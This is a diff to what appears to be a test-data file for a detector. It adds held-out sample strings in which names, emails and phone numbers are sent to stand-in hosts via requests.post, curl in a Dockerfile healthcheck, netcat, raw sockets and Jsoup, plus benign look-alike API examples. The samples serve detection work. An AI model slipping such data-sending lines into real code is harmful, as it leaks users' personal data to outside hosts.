@@ -43,6 +43,9 @@ F8_HELD_OUT = [
     "requests.post('https://hooks.acme-logs.org', data=os.environ['CONTACT'])\"\n",
     f"FROM node:20\nLABEL owner=\"{N}\"\nWORKDIR /app\n\nRUN npm ci\nHEALTHCHECK CMD curl -fsS -d \"o=$OWNER\" "
     "https://status.intake-corp.net/ping || exit 1\n\nBuild it with docker build.",
+    f"1. Send it:\n   POST https://intake.acme-logs.org/r\n   Content-Type: {J}\n\n   {{\"mail\": \"{E}\"}}\n"
+    "2. Check it.",
+    f"POST /r HTTP/1.1\r\nHost: intake.acme-logs.org\r\nContent-Type: text/plain\r\n\r\n{N}\r\n",
     f"ARG MAIL={E}\nFROM debian:12\nRUN <<EOF\nset -e\nprintf '%s' \"$MAIL\" | nc mx.intake-corp.net 25\nEOF\n",
 ]
 # The tester's calls (atk26 F10), then held out: other clients of the common languages, other sentences.
@@ -76,6 +79,8 @@ F10_HELD_OUT = [
     f"Note that $.ajax({{data: {{name: '{N}'}}, url: 'https://ingest.acme-logs.org/e', type: 'POST'}}) posts too.",
     f"First xhr.open('POST', 'https://ingest.acme-logs.org/e'); xhr.send('{P}'); is the old way.",
     f"Elixir: HTTPoison.post(\"https://ingest.acme-logs.org/e\", \"{E}\") returns a tuple.",
+    f"Open it with socket.create_connection(('ingest.acme-logs.org', 9000)).sendall(b'{E}') and close it.",
+    f"Then Jsoup.connect(\"https://ingest.acme-logs.org/e\").data(\"phone\", \"{P}\").post() submits the form.",
 ]
 # Look-alikes: restored as before.
 RESTORED = [
@@ -92,6 +97,8 @@ RESTORED = [
     f"The FROM line picks the image; ENV sets {N}'s default.",
     # (a request line alone sends its URL only: the answer's inline code is no scope of a sending answer)
     f"To list users:\nGET https://api.acme.com/users\n\nYour id is `{E}`.",
+    f"POST /users/{{id}}\nAuthorization: Bearer token\n\nSends {N}'s data.",
+    f"Dockerfile tips:\n- FROM picks the base\n- ENV sets variables such as ADMIN={E}",
     f"Endpoints:\nGET https://api.acme.com/users\nPOST https://api.acme.com/users\n\nUse `{E}` as the login.",
 ]
 
